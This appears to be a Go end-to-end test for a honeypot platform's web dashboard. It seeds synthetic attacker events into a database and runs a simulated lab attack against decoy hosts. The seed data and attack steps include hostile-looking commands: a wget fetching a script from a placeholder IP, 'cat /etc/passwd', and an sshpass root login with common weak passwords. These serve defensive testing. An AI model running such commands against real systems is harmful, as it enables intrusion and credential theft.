package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"github.com/decnet/decnet/devstack"
	"github.com/decnet/decnet/lab"
)

// uiSeedEvents is the number of events seeded into the database before the dashboard is measured (issue 7:
// "first meaningful paint of the overview under 1 s … with 100,000 events in the database").
const uiSeedEvents = 100_000

// uiReport is the part of ui/test-results/report.json the Go test reads back.
type uiReport struct {
	Results []struct {
		Name   string `json:"name"`
		Status string `json:"status"`
		Ms     int64  `json:"ms"`
		Note   string `json:"note"`
		Error  string `json:"error"`
		Reason string `json:"reason"`
	} `json:"results"`
	Metrics     map[string]any `json:"metrics"`
	Screenshots []string       `json:"screenshots"`
}

// ensureDashboard makes sure webui/dist holds a built dashboard (running `make ui` when it does not) and that
// ui/node_modules has playwright-core (running `npm ci` when it does not).
func ensureDashboard(t *testing.T, root string) {
	t.Helper()
	run := func(dir string, timeout time.Duration, name string, args ...string) {
		ctx, cancel := context.WithTimeout(context.Background(), timeout)
		defer cancel()
		cmd := exec.CommandContext(ctx, name, args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s %v in %s: %v\n%s", name, args, dir, err, out)
		}
	}
	if _, err := os.Stat(filepath.Join(root, "webui", "dist", "index.html")); err != nil {
		if _, err := exec.LookPath("make"); err != nil {
			t.Skip("webui/dist/index.html is missing and make is not installed: run `make ui` first")
		}
		t.Log("webui/dist/index.html is missing: running `make ui`")
		run(root, 15*time.Minute, "make", "ui")
	}
	if _, err := os.Stat(filepath.Join(root, "ui", "node_modules", "playwright-core", "package.json")); err != nil {
		t.Log("ui/node_modules lacks playwright-core: running `npm ci`")
		run(filepath.Join(root, "ui"), 15*time.Minute, "npm", "ci", "--no-audit", "--no-fund")
	}
}

// buildDashboardBinaries builds decky (static), decnetd with the dashboard embedded (-tags webui) and decnetctl.
func buildDashboardBinaries(t *testing.T, root, dir string) {
	t.Helper()
	run := func(env []string, args ...string) {
		cmd := exec.Command("go", args...)
		cmd.Dir, cmd.Env = root, append(os.Environ(), env...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("go %v: %v\n%s", args, err, out)
		}
	}
	run([]string{"CGO_ENABLED=0"}, "build", "-trimpath", "-ldflags=-s -w", "-o", filepath.Join(dir, "decky"), "./cmd/decky")
	run(nil, "build", "-tags", "webui", "-o", filepath.Join(dir, "decnetd"), "./cmd/decnetd")
	run(nil, "build", "-o", filepath.Join(dir, "decnetctl"), "./cmd/decnetctl")
}

// devPostgresURL returns the connection URL of the dev-stack cluster decnetd started for stateDir.
func devPostgresURL(stateDir string) (string, error) {
	b, err := os.ReadFile(filepath.Join(stateDir, "postgres.location"))
	if err != nil {
		return "", fmt.Errorf("dev postgres location: %w", err)
	}
	q := url.Values{"host": {strings.TrimSpace(string(b))}, "user": {"postgres"}, "sslmode": {"disable"}}
	return "postgres:///" + devstack.PGDatabase + "?" + q.Encode(), nil
}

// seedEvents bulk-inserts n synthetic events (documentation-range attacker IPs, the fleet's decky names, spread
// over the last 24 h with more weight on recent hours) and returns the logs row count afterwards.
func seedEvents(ctx context.Context, dbURL string, n int, deckies []string) (int64, error) {
	conn, err := pgx.Connect(ctx, dbURL)
	if err != nil {
		return 0, fmt.Errorf("connect %s: %w", dbURL, err)
	}
	defer conn.Close(ctx)
	const q = `
INSERT INTO logs (timestamp, decky, service, event_type, attacker_ip, raw_line, fields, msg)
SELECT ts, decky, svc, evt, ip::inet,
       format('<134>1 %s %s %s - %s [decnet@55555 src_ip="%s" seed="ui-e2e"] seeded event %s',
              to_char(ts AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"'), decky, svc, evt, ip, i),
       jsonb_build_object('src_ip', ip, 'seed', 'ui-e2e') || CASE evt
         WHEN 'auth_attempt' THEN jsonb_build_object('username', (ARRAY['root','admin','ubuntu','oracle','pi','test'])[1 + i % 6], 'outcome', 'failure')
         WHEN 'command' THEN jsonb_build_object('command', (ARRAY['uname -a','id','cat /etc/passwd','wget http://203.0.113.9/x.sh','ls -la /tmp','nproc'])[1 + i % 6])
         WHEN 'request' THEN jsonb_build_object('method', 'GET', 'path', (ARRAY['/','/admin','/wp-login.php','/.env','/phpmyadmin/','/cgi-bin/luci'])[1 + i % 6])
         ELSE '{}'::jsonb END, NULL
FROM (
  SELECT i,
         now() - (power(random(), 2) * interval '24 hours') AS ts,
         ($2::text[])[1 + i % cardinality($2::text[])] AS decky,
         (ARRAY['ssh','http','smb','rdp','telnet','ftp'])[1 + (i / 7) % 6] AS svc,
         (ARRAY['connection','auth_attempt','auth_attempt','command','request'])[1 + (i / 3) % 5] AS evt,
         (CASE WHEN i % 3 = 0 THEN '198.51.100.' ELSE '203.0.113.' END) || (1 + (i * 7919) % 211) AS ip
  FROM generate_series(1, $1::int) AS i
) s`
	if _, err := conn.Exec(ctx, q, n, deckies); err != nil {
		return 0, fmt.Errorf("seed %d events: %w", n, err)
	}
	// The profiler's view of those events (attackers) and a few captured credentials per attacker, so the
	// overview's top lists and the attackers and credentials pages show realistic volumes.
	const qa = `
INSERT INTO attackers (uuid, ip, first_seen, last_seen, event_count, service_count, decky_count, services, deckies,
                       traversal_path, is_traversal, credential_count)
SELECT gen_random_uuid(), attacker_ip, min(timestamp), max(timestamp), count(*), count(DISTINCT service),
       count(DISTINCT decky), to_jsonb(array_agg(DISTINCT service)), to_jsonb(array_agg(DISTINCT decky)),
       CASE WHEN count(DISTINCT decky) > 1 THEN array_to_string(array_agg(DISTINCT decky), ' → ') END,
       count(DISTINCT decky) > 1, 3
FROM logs WHERE fields @> '{"seed":"ui-e2e"}' GROUP BY attacker_ip
ON CONFLICT (ip) DO NOTHING`
	if _, err := conn.Exec(ctx, qa); err != nil {
		return 0, fmt.Errorf("seed attackers: %w", err)
	}
	const qc = `
INSERT INTO credentials (attacker_ip, attacker_uuid, decky_name, service, principal, principal_key, secret_kind,
                         secret_sha256, secret_b64, secret_printable, outcome, first_seen, last_seen, attempt_count)
SELECT a.ip, a.uuid, ($1::text[])[1 + (h + k) % cardinality($1::text[])], 'ssh', p, p, 'plaintext',
       encode(sha256(convert_to(sec, 'UTF8')), 'hex'), encode(convert_to(sec, 'UTF8'), 'base64'), sec, 'failure',
       a.first_seen, a.last_seen, 1 + (h * k) % 40
FROM attackers a
CROSS JOIN generate_series(1, 3) AS k
CROSS JOIN LATERAL (SELECT abs(hashtext(host(a.ip)) % 100000) AS h) hh
CROSS JOIN LATERAL (SELECT (ARRAY['root','admin','ubuntu','oracle','pi','test'])[1 + (h + k) % 6] AS p,
                           (ARRAY['123456','password','admin','toor','raspberry','qwerty','letmein','P@ssw0rd'])[1 + (h + 3 * k) % 8] AS sec) ps
WHERE a.ip <<= '198.51.100.0/24' OR a.ip <<= '203.0.113.0/24'
ON CONFLICT DO NOTHING`
	if _, err := conn.Exec(ctx, qc, deckies); err != nil {
		return 0, fmt.Errorf("seed credentials: %w", err)
	}
	var total int64
	if err := conn.QueryRow(ctx, "SELECT count(*) FROM logs").Scan(&total); err != nil {
		return 0, fmt.Errorf("count logs: %w", err)
	}
	_, _ = conn.Exec(ctx, "ANALYZE logs")
	return total, nil
}

// stopDevPostgres makes sure the dev cluster of stateDir is gone (decnetd stops it on SIGTERM; this covers a
// decnetd that died) and removes a data dir that lives outside the state dir.
func stopDevPostgres(t *testing.T, stateDir string) {
	b, err := os.ReadFile(filepath.Join(stateDir, "postgres.location"))
	if err != nil {
		return
	}
	dataDir := strings.TrimSpace(string(b))
	if pf, err := devstack.ReadPIDFile(dataDir); err == nil && pf.PID > 0 {
		if syscall.Kill(pf.PID, 0) == nil {
			t.Logf("dev postgres %d still running: stopping it", pf.PID)
			syscall.Kill(pf.PID, syscall.SIGINT)
			for i := 0; i < 100 && syscall.Kill(pf.PID, 0) == nil; i++ {
				time.Sleep(100 * time.Millisecond)
			}
			syscall.Kill(pf.PID, syscall.SIGKILL)
		}
	}
	if strings.HasPrefix(dataDir, stateDir) || !strings.HasPrefix(dataDir, devstack.PGFallbackRoot+"/") {
		return
	}
	if t.Failed() {
		t.Logf("dev postgres data kept in %s", dataDir)
		return
	}
	os.RemoveAll(dataDir)
}

// TestDashboardEndToEnd runs the dashboard's browser suite (ui/e2e/run.mjs: playwright-core driving Debian's
// headless chromium) against a real decnetd with the dashboard embedded, a dev stack, a private lab fleet of two
// deckies and 100,000 seeded events: login form within 4 s, forced password change, an attack from the lab's
// attacker netns in the live feed within 2 s, an INI deployed from the wizard coming up in the fleet table, the
// attacker's traversal across both deckies, and the overview's first meaningful paint under 1 s.
//
// DECNET_E2E_SCREENSHOTS (e.g. ../docs/screenshots, relative to ui/) also copies one screenshot per page there.
func TestDashboardEndToEnd(t *testing.T) {
	requireE2E(t)
	if testing.Short() {
		t.Skip("end-to-end test skipped in -short mode")
	}
	for _, b := range []string{"go", "node", "npm"} {
		if _, err := exec.LookPath(b); err != nil {
			t.Skipf("%s not in PATH", b)
		}
	}
	chromium := os.Getenv("DECNET_E2E_CHROMIUM")
	if chromium == "" {
		chromium = "/usr/bin/chromium"
	}
	if _, err := os.Stat(chromium); err != nil {
		t.Skipf("chromium not installed at %s (scripts/install-deps.sh installs Debian's chromium)", chromium)
	}
	if !devstack.PGAvailable("") {
		t.Skip("PostgreSQL server binaries not installed (scripts/install-deps.sh installs them)")
	}
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	ensureDashboard(t, root)

	base, err := os.MkdirTemp("", "dnui-") // short: containerd's and postgres' socket paths are length-limited
	if err != nil {
		t.Fatal(err)
	}
	e := &e2e{t: t, bin: filepath.Join(base, "bin"), state: filepath.Join(base, "s"), logDir: filepath.Join(base, "log"),
		sock: filepath.Join(base, "ctl.sock"), lab: lab.Unique()}
	e.prefix = "dn" + e.lab.AttackerNS[len("dnt-atk-"):] + "-"
	for _, d := range []string{e.bin, e.state, e.logDir} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	buildDashboardBinaries(t, root, e.bin)

	l := lab.New(e.lab)
	ctx := context.Background()
	if err := l.Up(ctx); err != nil {
		t.Fatalf("lab up: %v", err)
	}
	t.Cleanup(func() {
		if e.cmd != nil && e.cmd.Process != nil {
			c := exec.Command(filepath.Join(e.bin, "decnetctl"), "teardown", "--all", "--yes")
			c.Env = e.env()
			if out, err := c.CombinedOutput(); err != nil {
				t.Logf("cleanup teardown: %v %s", err, out)
			}
			e.cmd.Process.Signal(syscall.SIGTERM)
			done := make(chan struct{})
			go func() { e.cmd.Wait(); close(done) }()
			select {
			case <-done:
			case <-time.After(60 * time.Second):
				t.Log("decnetd did not exit within 60 s of SIGTERM: killing it")
				e.cmd.Process.Kill()
				<-done
			}
		}
		exec.Command("sh", filepath.Join(root, "scripts", "dev-containerd.sh"), "stop", filepath.Join(e.state, "containerd")).Run()
		stopDevPostgres(t, e.state)
		l.Down(ctx)
		if !t.Failed() {
			os.RemoveAll(base)
		} else {
			t.Logf("state kept in %s", base)
		}
	})

	subnet := e.lab.AttackerAddr.Masked()
	pre := subnet.Addr().As4()
	ipOf := func(host int) string { return fmt.Sprintf("%d.%d.%d.%d", pre[0], pre[1], pre[2], host) }
	svcs := pick(t, "ssh", "http")
	general := fmt.Sprintf("[general]\nnet = %s\ngw = %s\ninterface = %s\n", subnet, ipOf(1), e.lab.Parent)
	const sshPassword = "hunter2secret"
	fleetINI := general + fmt.Sprintf("\n[web01]\nip = %s\nservices = %s\nnmap_os = linux\n\n[db01]\nip = %s\nservices = %s\nnmap_os = linux\n\n[db01.ssh]\npassword = %s\n\n[web01.ssh]\npassword = %s\n",
		ipOf(10), strings.Join(svcs, ","), ipOf(11), strings.Join(svcs, ","), sshPassword, sshPassword)
	fleetPath := filepath.Join(base, "fleet.ini")
	wizardINI := general + fmt.Sprintf("\n[app03]\nip = %s\nservices = %s\nnmap_os = linux\n", ipOf(12), svcs[len(svcs)-1])
	wizardPath := filepath.Join(base, "wizard.ini")
	for p, s := range map[string]string{fleetPath: fleetINI, wizardPath: wizardINI} {
		if err := os.WriteFile(p, []byte(s), 0o600); err != nil {
			t.Fatal(err)
		}
	}

	e.start()
	apiURL := fmt.Sprintf("http://127.0.0.1:%d", e.apiPort)
	deadline := time.Now().Add(60 * time.Second)
	for {
		if c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", e.apiPort)); err == nil {
			c.Close()
			break
		}
		if time.Now().After(deadline) {
			e.dumpLog()
			t.Fatalf("TCP API not listening on %s within 60 s", apiURL)
		}
		time.Sleep(100 * time.Millisecond)
	}
	if r := e.call("GET", "/", "", "", nil); r.code != 200 || !strings.Contains(string(r.body), `id="app"`) {
		t.Fatalf("GET / on the API listener: %d %.300s (is decnetd built with -tags webui?)", r.code, r.body)
	}

	e.ctl("deploy", "--config", fleetPath)
	st := e.waitRunning(2)
	t.Logf("lab fleet: web01 %s, db01 %s (%v)", st["web01"].IP, st["db01"].IP, svcs)

	// A second account (root on the control socket acts as admin), so the users page lists a viewer who has not
	// signed in yet.
	addUser := exec.Command(filepath.Join(e.bin, "decnetctl"), "users", "add", "analyst", "--role", "viewer")
	addUser.Env, addUser.Stdin = e.env(), strings.NewReader("analyst-initial-pw\n")
	if out, err := addUser.CombinedOutput(); err != nil {
		t.Fatalf("decnetctl users add over the control socket: %v\n%s", err, out)
	}

	dbURL, err := devPostgresURL(e.state)
	if err != nil {
		t.Fatal(err)
	}
	seedCtx, cancel := context.WithTimeout(ctx, 5*time.Minute)
	t0 := time.Now()
	total, err := seedEvents(seedCtx, dbURL, uiSeedEvents, []string{"web01", "db01"})
	cancel()
	if err != nil {
		t.Fatal(err)
	}
	if total < uiSeedEvents {
		t.Fatalf("logs hold %d rows after seeding %d", total, uiSeedEvents)
	}
	t.Logf("seeded %d events in %v (logs: %d rows)", uiSeedEvents, time.Since(t0).Round(time.Millisecond), total)

	// The attack: an HTTP request to web01 (the live-feed row), then an SSH login with a command on db01 (the
	// second decky of the traversal, a credential and a command) — or a second HTTP request without sshpass.
	atk := e.lab.AttackerAddr.Addr().String()
	inNS := "ip netns exec " + e.lab.AttackerNS + " "
	var attack []string
	if slices.Contains(svcs, "http") {
		attack = append(attack, inNS+"curl -s -o /dev/null -m 10 -A 'Mozilla/5.0 (e2e-ui)' http://"+ipOf(10)+"/admin/login.php")
	}
	if _, err := exec.LookPath("sshpass"); err == nil && slices.Contains(svcs, "ssh") {
		attack = append(attack, inNS+"sshpass -p "+sshPassword+" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "+
			"-o ConnectTimeout=10 -o LogLevel=ERROR root@"+ipOf(11)+" 'uname -a; id; cat /etc/passwd' >/dev/null")
	} else if slices.Contains(svcs, "http") {
		attack = append(attack, inNS+"curl -s -o /dev/null -m 10 http://"+ipOf(11)+"/.env")
	}
	if len(attack) < 2 {
		t.Skipf("cannot attack two deckies with %v (sshpass missing?)", svcs)
	}

	suite := exec.Command("node", "e2e/run.mjs")
	suite.Dir = filepath.Join(root, "ui")
	suite.Env = append(os.Environ(),
		"DECNET_E2E_URL="+apiURL,
		"DECNET_E2E_USER=admin",
		"DECNET_E2E_PASSWORD="+e2eAdminPassword,
		"DECNET_E2E_CHROMIUM="+chromium,
		"DECNET_E2E_ATTACK_CMD="+strings.Join(attack, " && "),
		"DECNET_E2E_ATTACKER_IP="+atk,
		"DECNET_E2E_DEPLOY_INI="+wizardPath,
		"DECNET_E2E_EXPECT_EVENTS="+strconv.Itoa(uiSeedEvents),
		"DECNET_E2E_STRICT=1",
	)
	var out strings.Builder
	suite.Stdout, suite.Stderr = &out, &out
	if err := suite.Start(); err != nil {
		t.Fatalf("start the browser suite: %v", err)
	}
	done := make(chan error, 1)
	go func() { done <- suite.Wait() }()
	var suiteErr error
	select {
	case suiteErr = <-done:
	case <-time.After(15 * time.Minute):
		suite.Process.Kill()
		suiteErr = fmt.Errorf("browser suite still running after 15 min: killed")
		<-done
	}
	t.Logf("browser suite output:\n%s", out.String())

	var rep uiReport
	b, rerr := os.ReadFile(filepath.Join(root, "ui", "test-results", "report.json"))
	if rerr == nil {
		rerr = json.Unmarshal(b, &rep)
	}
	if suiteErr != nil {
		e.dumpLog()
		t.Fatalf("browser suite failed: %v (screenshots and report.json under ui/test-results/)", suiteErr)
	}
	if rerr != nil {
		t.Fatalf("read ui/test-results/report.json: %v", rerr)
	}
	for _, r := range rep.Results {
		if r.Status != "pass" {
			t.Errorf("suite step %q: %s %s%s", r.Name, r.Status, r.Error, r.Reason)
		}
	}
	m, _ := json.Marshal(rep.Metrics)
	t.Logf("dashboard metrics (%d events in the database): %s", total, m)
	t.Logf("screenshots: %s", strings.Join(rep.Screenshots, ", "))
}
